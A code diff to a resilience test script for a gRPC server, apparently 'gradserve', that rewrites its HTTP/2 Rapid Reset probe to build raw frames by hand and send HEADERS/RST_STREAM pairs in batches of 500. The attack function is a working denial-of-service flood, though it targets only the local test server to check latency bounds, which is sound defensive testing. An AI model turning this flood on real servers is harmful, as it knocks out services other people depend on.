@@ -10,59 +10,83 @@ under --p99_bound_ms. Prints the figures; exits 1 when the goal is missed.
   /usr/bin/python3 tests/rapid_reset_probe.py --server build/server/gradserve-server \\
       --client build/client/gradserve --seconds 5
 
-Needs python3-h2 (Debian's; run with /usr/bin/python3).
+Needs python3-hpack (installed with python3-h2; Debian's, so run it with /usr/bin/python3).
 """
 import argparse
 import json
 import re
 import socket
+import struct
 import subprocess
 import sys
 import threading
 import time
 
-import h2.config
-import h2.connection
-import h2.events
-import h2.exceptions
+import hpack
+
+
+def frame(kind, flags, stream, payload=b''):
+    return struct.pack('>I', len(payload))[1:] + struct.pack('>BBI', kind, flags, stream) + payload
+
+
+HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
+END_HEADERS, ACK, CANCEL = 0x4, 0x1, 0x8
 
 
 def attack(port, seconds, stats):
-    """Sends HEADERS + RST_STREAM pairs on one connection (reconnecting if the server closes it)."""
-    headers = [(':method', 'POST'), (':scheme', 'http'), (':path', '/gradserve.v1.GradientService/Forward'),
-               (':authority', f'127.0.0.1:{port}'), ('content-type', 'application/grpc'), ('te', 'trailers')]
+    """Sends HEADERS + RST_STREAM pairs on one connection (reconnecting if the server closes it).
+
+    The frames are built once and sent in batches of 500 pairs (h2's per-stream bookkeeping would
+    make the attacker, not the server, the bottleneck); the header block uses never-indexed
+    literals, so it does not depend on HPACK state. Incoming SETTINGS and PINGs are acknowledged
+    as a real client would.
+    """
+    block = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in [
+        (':method', 'POST'), (':scheme', 'http'), (':path', '/gradserve.v1.GradientService/Forward'),
+        (':authority', f'127.0.0.1:{port}'), ('content-type', 'application/grpc'), ('te', 'trailers')]])
     end = time.monotonic() + seconds
     while time.monotonic() < end:
         sock = socket.create_connection(('127.0.0.1', port))
         sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding='utf-8'))
-        conn.initiate_connection()
-        sock.sendall(conn.data_to_send())
-        sock.setblocking(False)
+        sock.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS, 0, 0))
+        stream, pending = 1, b''
         try:
             while time.monotonic() < end:
-                for _ in range(100):
-                    sid = conn.get_next_available_stream_id()
-                    conn.send_headers(sid, headers)
-                    conn.reset_stream(sid)
-                    stats['pairs'] += 1
-                sock.setblocking(True)
-                sock.sendall(conn.data_to_send())
+                batch = []
+                for _ in range(500):
+                    batch.append(frame(HEADERS, END_HEADERS, stream, block))
+                    batch.append(frame(RST_STREAM, 0, stream, struct.pack('>I', CANCEL)))
+                    stream += 2
+                sock.sendall(b''.join(batch))
+                stats['pairs'] += 500
                 sock.setblocking(False)
-                try:  # read what the server sends (SETTINGS, WINDOW_UPDATE, GOAWAY) without waiting
-                    data = sock.recv(65536)
-                    if not data:
-                        break
-                    for event in conn.receive_data(data):
-                        if isinstance(event, h2.events.ConnectionTerminated):
-                            stats['goaways'] += 1
-                            raise ConnectionError('GOAWAY')
-                    sock.setblocking(True)
-                    sock.sendall(conn.data_to_send())
-                    sock.setblocking(False)
+                try:
+                    while True:
+                        data = sock.recv(65536)
+                        if not data:
+                            raise ConnectionError('closed')
+                        pending += data
                 except BlockingIOError:
                     pass
-        except (ConnectionError, OSError, h2.exceptions.ProtocolError):
+                finally:
+                    sock.setblocking(True)
+                replies = []
+                while len(pending) >= 9:
+                    length = int.from_bytes(pending[:3], 'big')
+                    if len(pending) < 9 + length:
+                        break
+                    kind, flags, payload = pending[3], pending[4], pending[9:9 + length]
+                    pending = pending[9 + length:]
+                    if kind == SETTINGS and not flags & ACK:
+                        replies.append(frame(SETTINGS, ACK, 0))
+                    elif kind == PING and not flags & ACK:
+                        replies.append(frame(PING, ACK, 0, payload))
+                    elif kind == GOAWAY:
+                        stats['goaways'] += 1
+                        raise ConnectionError('GOAWAY')
+                if replies:
+                    sock.sendall(b''.join(replies))
+        except (ConnectionError, OSError):
             stats['reconnects'] += 1
         finally:
             sock.close()
@@ -83,8 +107,9 @@ def main():
     parser.add_argument('--client', required=True)
     parser.add_argument('--seconds', type=float, default=5)
     parser.add_argument('--server_arg', action='append', default=[], help='extra server flag (repeatable)')
-    # Idle p99 here is ~1-10 ms and under attack ~40-600 ms on a loaded 2-core machine; 3 s is the
-    # line between "slower" and "unavailable" that this probe guards.
+    # p99 was 3-8 ms idle and 4-13 ms under this attack on a loaded 2-core machine, with single
+    # calls stalling 2-19 s in about half the runs (hence p99, not the maximum); 3 s is the line
+    # between "slower" and "unavailable" that this probe guards.
     parser.add_argument('--p99_bound_ms', type=float, default=3000)
     args = parser.parse_args()
 
